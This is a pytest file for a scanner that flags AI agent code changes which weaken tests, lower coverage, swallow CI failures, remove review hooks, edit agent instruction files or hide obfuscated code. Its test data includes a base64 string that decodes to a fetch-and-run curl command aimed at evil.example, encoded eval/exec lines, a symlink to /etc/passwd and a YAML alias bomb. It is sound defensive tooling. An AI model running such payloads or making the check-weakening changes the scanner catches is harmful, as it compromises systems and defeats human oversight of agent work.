"""The agent stage's check families on small hand-made changes: no git, no tools (pure functions of two trees)."""

from __future__ import annotations

import ast
import os
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from airlock.pipeline.models import Change, ChangedFile, FileStatus
from airlock.scanners.agent import ci_steps, coverage, hidden_text, lexed, obfuscation, weakened_tests
from airlock.scanners.agent.view import MAX_FILE_BYTES, ChangeView, decode


def _view(tmp: Path, base: dict[str, str | bytes], head: dict[str, str | bytes], *files: ChangedFile) -> ChangeView:
    for root, content in (("base", base), ("head", head)):
        for rel, data in content.items():
            p = tmp / root / rel
            p.parent.mkdir(parents=True, exist_ok=True)
            p.write_bytes(data.encode() if isinstance(data, str) else data)
    (tmp / "head").mkdir(exist_ok=True)
    (tmp / "base").mkdir(exist_ok=True)
    ch = Change(root=tmp, mode="diff", base="b" * 40, head="h" * 40, files=files, workspace=tmp / "head",
                base_workspace=tmp / "base")
    return ChangeView(ch, tuple(f.path for f in files))


def _mod(path: str, *ranges: tuple[int, int]) -> ChangedFile:
    return ChangedFile(path, FileStatus.MODIFIED, path, tuple(ranges))


# --- weakened tests ------------------------------------------------------------------------------

def test_tautologies_and_real_asserts() -> None:
    for src in ("assert True", "assert 1", "assert x == x", "self.assertTrue(True)", "self.assertEqual(a.b, a.b)"):
        assert weakened_tests.is_tautology(ast.parse(src).body[0] if src.startswith("assert") else
                                           ast.parse(src).body[0].value), src  # type: ignore[attr-defined]
    for src in ("assert x", "assert x == 1", "assert a == b"):
        assert not weakened_tests.is_tautology(ast.parse(src).body[0]), src


def test_module_skip_and_skiptest_call(tmp_path: Path) -> None:
    base = "def test_a():\n    assert f() == 1\n"
    head = (
        "import pytest\npytestmark = pytest.mark.skip\n\ndef test_a():\n    self.skipTest('x')\n    assert f() == 1\n"
    )
    v = _view(tmp_path, {"tests/test_a.py": base}, {"tests/test_a.py": head}, _mod("tests/test_a.py", (1, 5)))
    got = sorted((f.rule_id, f.start_line) for f in weakened_tests.check(v))
    assert got == [("agent.test-skipped", 2), ("agent.test-skipped", 5)]


def test_unparsable_head_test_file_is_a_finding(tmp_path: Path) -> None:
    v = _view(tmp_path, {"tests/test_a.py": "def test_a():\n    assert 1 == 1\n"},
              {"tests/test_a.py": "def test_a(:\n"}, _mod("tests/test_a.py", (1, 1)))
    assert [f.rule_id for f in weakened_tests.check(v)] == ["agent.test-unparsable"]


def test_deeply_nested_test_file_does_not_crash(tmp_path: Path) -> None:
    deep = "def test_a():\n    assert " + "(" * 5000 + "1" + ")" * 5000 + "\n"
    v = _view(tmp_path, {"tests/test_a.py": "def test_a():\n    assert g()\n"}, {"tests/test_a.py": deep},
              _mod("tests/test_a.py", (2, 2)))
    assert [f.rule_id for f in weakened_tests.check(v)] == ["agent.test-unparsable"]


def test_new_tests_and_unchanged_tests_are_quiet(tmp_path: Path) -> None:
    base = "def test_a():\n    assert f() == 1\n"
    head = base + "\n\ndef test_b():\n    assert g() == 2\n"
    v = _view(tmp_path, {"tests/test_a.py": base, "src/f.py": "x=1\n"},
              {"tests/test_a.py": head, "src/f.py": "x=2\n"}, _mod("tests/test_a.py", (3, 6)), _mod("src/f.py", (1, 1)))
    assert weakened_tests.check(v) == []


# --- coverage ------------------------------------------------------------------------------------

@settings(max_examples=200, deadline=None)
@given(st.integers(0, 100), st.sampled_from(["=", " ", "  "]), st.sampled_from(["", "'", '"']),
       st.text(alphabet="abc -=", max_size=20))
def test_cov_option_regex_reads_what_pytest_reads(n: int, sep: str, quote: str, noise: str) -> None:
    text = f"pytest {noise} --cov=app --cov-fail-under{sep}{quote}{n}{quote} -q"
    assert coverage.cov_options(text) == [float(n)]


def test_coverage_in_ini_files(tmp_path: Path) -> None:
    base = "[report]\nfail_under = 85\n"
    head = "[report]\nfail_under = 60\n"
    v = _view(tmp_path, {".coveragerc": base}, {".coveragerc": head}, _mod(".coveragerc", (2, 2)))
    (f,) = coverage.check(v)
    assert (f.rule_id, f.start_line) == ("agent.coverage-lowered", 2) and "85 to 60" in f.message
    v = _view(tmp_path / "2", {"setup.cfg": "[tool:pytest]\naddopts = --cov-fail-under=80\n"},
              {"setup.cfg": "[tool:pytest]\naddopts = -q\n"}, _mod("setup.cfg", (2, 2)))
    assert [f.rule_id for f in coverage.check(v)] == ["agent.coverage-lowered"]


# --- CI ------------------------------------------------------------------------------------------

WF = "on: [push, pull_request]\njobs:\n  t:\n    steps:\n      - run: pytest -q\n      - run: airlock scan .\n"


def test_swallowed_failure_is_weakening(tmp_path: Path) -> None:
    head = WF.replace("airlock scan .", "airlock scan . || true")
    v = _view(tmp_path, {".github/workflows/ci.yml": WF}, {".github/workflows/ci.yml": head},
              _mod(".github/workflows/ci.yml", (6, 6)))
    (f,) = ci_steps.check(v)
    assert (f.rule_id, f.start_line) == ("agent.airlock-step-weakened", 6) and "swallowed" in f.message


def test_gitlab_allow_failure(tmp_path: Path) -> None:
    base = "test:\n  script:\n    - pytest\n"
    head = "test:\n  allow_failure: true\n  script:\n    - pytest\n"
    v = _view(tmp_path, {".gitlab-ci.yml": base}, {".gitlab-ci.yml": head}, _mod(".gitlab-ci.yml", (2, 2)))
    assert [f.rule_id for f in ci_steps.check(v)] == ["agent.ci-test-removed"]


def test_reworded_test_step_is_kept(tmp_path: Path) -> None:
    head = WF.replace("pytest -q", "python -m pytest -q -x")
    v = _view(tmp_path, {".github/workflows/ci.yml": WF}, {".github/workflows/ci.yml": head},
              _mod(".github/workflows/ci.yml", (5, 5)))
    assert ci_steps.check(v) == []


def test_yaml_alias_bomb_is_unchecked_not_a_hang(tmp_path: Path) -> None:
    bomb = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n"
        for p, c in zip("abcdefgh", "bcdefghi", strict=True)
    ) + "jobs: {t: {steps: [{run: [*i]}]}}\n"
    v = _view(tmp_path, {".github/workflows/ci.yml": WF}, {".github/workflows/ci.yml": bomb},
              _mod(".github/workflows/ci.yml", (1, 10)))
    assert [f.rule_id for f in ci_steps.check(v)] == ["agent.unchecked"]


def test_oversized_file_is_reported_not_read(tmp_path: Path) -> None:
    v = _view(tmp_path, {}, {"big.py": "x = 1\n" * (MAX_FILE_BYTES // 6 + 10)},
              ChangedFile("big.py", FileStatus.ADDED, None, ((1, 1),)))
    assert v.head("big.py") is None and v.too_large == {"big.py"}


def test_links_are_never_followed(tmp_path: Path) -> None:
    v = _view(tmp_path, {}, {"a.py": "x = 1\n"}, ChangedFile("link.py", FileStatus.ADDED, None, ((1, 1),)))
    os.symlink("/etc/passwd", tmp_path / "head" / "link.py")
    assert v.head("link.py") is None


# --- hidden text and obfuscation -----------------------------------------------------------------

def test_identifiers() -> None:
    assert hidden_text.identifier_problem("naïve") is None
    assert hidden_text.identifier_problem("π") is None
    assert "CYRILLIC" in (hidden_text.identifier_problem("p\u0430ssword") or "")
    assert hidden_text.identifier_problem("plain_ascii") is None


def test_bom_at_file_start_is_not_zero_width(tmp_path: Path) -> None:
    v = _view(tmp_path, {}, {"a.py": "\ufeffx = 1\n"}, ChangedFile("a.py", FileStatus.ADDED))
    assert hidden_text.check(v) == []


def test_json_loads_does_not_taint_and_decoders_do(tmp_path: Path) -> None:
    src = (
        "import json, subprocess, zlib, base64\n"
        "cfg = json.loads(s)\n"
        "subprocess.run(cfg['cmd'])\n"
        "code = zlib.decompress(base64.b64decode(B))\n"
        "eval(code)\n"
        "run(base64.b64decode(x))\n"
        "exec(''.join(chr(c) for c in [105, 109]))\n"
    )
    v = _view(tmp_path, {}, {"m.py": src}, ChangedFile("m.py", FileStatus.ADDED))
    got = sorted((f.rule_id, f.start_line) for f in obfuscation.check(v))
    assert got == [("agent.encoded-exec", 5), ("agent.encoded-exec", 7)]


def test_entropy_thresholds() -> None:
    assert obfuscation.high_entropy("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgLXMgaHR0cHM6Ly9ldmlsLmV4YW1wbGUvJCh3aG9h"
                                    "bWkpIHwgc2giKQ==")
    assert not obfuscation.high_entropy("a" * 200)
    assert not obfuscation.high_entropy("the quick brown fox jumps over the lazy dog " * 3)
    assert obfuscation.high_entropy("0123456789abcdef" * 8)


def test_assets_are_not_binaries_to_report() -> None:
    png = b"\x89PNG\r\n\x1a\n" + bytes(100)
    assert obfuscation.kind_of_binary("docs/logo.png", png) is None
    assert obfuscation.kind_of_binary("src/logo.dat", png) is not None
    assert obfuscation.kind_of_binary("src/x.txt", "é".encode() * 40_000) is None
    assert decode(png) is None


def test_who_checks_families() -> None:
    from airlock.scanners.agent.who_checks import family

    assert family(".github/workflows/release.yaml")[0] == "agent.ci-edit"  # type: ignore[index]
    assert family("CODEOWNERS")[0] == "agent.review-config-edit"  # type: ignore[index]
    for rel in ("AGENTS.md", "pkg/CLAUDE.md", ".cursorrules", ".github/copilot-instructions.md", ".mcp.json",
                ".cursor/mcp.json", ".vscode/tasks.json"):
        assert family(rel)[0] == "agent.instructions-edit", rel  # type: ignore[index]
    assert family("src/app.py") is None and family("docs/agents.md") is None


def test_airlock_hook_removed_from_pre_commit(tmp_path: Path) -> None:
    base = "repos:\n  - repo: local\n    hooks:\n      - id: airlock\n        entry: airlock scan --staged\n"
    head = "repos:\n  - repo: local\n    hooks:\n      - id: ruff\n        entry: ruff check\n"
    v = _view(tmp_path, {".pre-commit-config.yaml": base}, {".pre-commit-config.yaml": head},
              _mod(".pre-commit-config.yaml", (4, 5)))
    assert [(f.rule_id, f.start_line) for f in ci_steps.check(v)] == [("agent.airlock-step-weakened", 0)]


def test_test_file_moved_out_of_test_paths_counts_as_deleted(tmp_path: Path) -> None:
    src = "def test_a():\n    assert f() == 1\n"
    v = _view(tmp_path, {"tests/test_a.py": src}, {"scratch/old_a.py": src},
              ChangedFile("scratch/old_a.py", FileStatus.RENAMED, "tests/test_a.py"))
    (f,) = weakened_tests.check(v)
    assert (f.rule_id, f.path, f.start_line) == ("agent.test-deleted", "scratch/old_a.py", 0) and "test_a" in f.message


def test_a_spent_time_budget_is_reported(tmp_path: Path) -> None:
    from airlock.pipeline.policy import ToolConfig
    from airlock.scanners.agent.scanner import AgentScanner
    from airlock.scanners.interface import ScanContext

    v = _view(tmp_path, {}, {"a.py": "x = 1\n", "b.py": "y = 2\n"}, ChangedFile("a.py", FileStatus.ADDED),
              ChangedFile("b.py", FileStatus.ADDED))
    ctx = ScanContext(workspace=v.head_root, paths=("a.py", "b.py"), tool=ToolConfig(timeout_s=0.0), change=v.change)
    result = AgentScanner().run(ctx, ("a.py", "b.py"))
    (f,) = result.findings
    assert f.rule_id == "agent.unchecked" and "ran out of time" in f.message and "a.py, b.py" in f.message


def test_lexed_tokens_tell_names_strings_and_comments_apart() -> None:
    lines = ['const p\u0430yload = "QmFzZTY0" + f(\'two\');', '// "in a comment"', "x" * 10_001]
    assert list(lexed.tokens("a.js", lines, {1, 2, 3})) == [
        (1, "name", "p\u0430yload"), (1, "string", "QmFzZTY0"), (1, "name", "f"), (1, "string", "two"),
        (3, "string", "x" * 10_001),
    ]  # the comment's quotes are no literal; the overlong line is read by the regexes, not lexed
    assert lexed.lexable("web/x.tsx") and lexed.lexable("svc/main.go")
    assert not lexed.lexable("README.md") and not lexed.lexable("a.py")  # Python has its own AST


def test_a_payload_cannot_hide_in_a_long_line_or_a_big_file(tmp_path: Path) -> None:
    """Past the lexer's limits the checks still run, through the regexes: on an overlong line, and on every
    line after the file's lexing budget."""
    blob = "QmFzZTY0IGVuY29kZWQgcGF5bG9hZCB3aXRoIGxvdHMgb2YgZW50cm9weSAxMjM0NTY3ODkwYWJjZGVm"
    filler = "let a = 1;  // " + "y" * 900 + "\n"
    head = (
        f'const k = "{blob}"; /* ' + "z" * 10_000 + " */\n"  # 1: an overlong line
        + filler * 300  # 2-301: a quarter megabyte of ordinary lines uses the lexing budget up
        + f'const s\u0435cret = "{blob}";\n'  # 302: past the budget
    )
    v = _view(tmp_path, {}, {"web/big.js": head}, ChangedFile("web/big.js", FileStatus.ADDED))
    got = sorted((f.rule_id, f.start_line) for f in obfuscation.check(v) + hidden_text.check(v))
    assert ("agent.high-entropy-string", 1) in got and ("agent.high-entropy-string", 302) in got, got
    assert ("agent.confusable-identifier", 302) in got, got


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(sorted(lexed.SUFFIXES)),
       st.lists(st.text(max_size=200), min_size=1, max_size=5))
def test_lexed_tokens_never_raise(suffix: str, lines: list[str]) -> None:
    lines = [ln.replace("\n", " ") for ln in lines]
    for n, kind, text in lexed.tokens(f"f{suffix}", lines, set(range(1, len(lines) + 1))):
        # pygments reads a lone "\r" as a line end, as it reads "\n": the token holds "\n" there
        assert kind in ("name", "string") and 1 <= n <= len(lines) and text in (lines[n - 1] + '"').replace("\r", "\n")
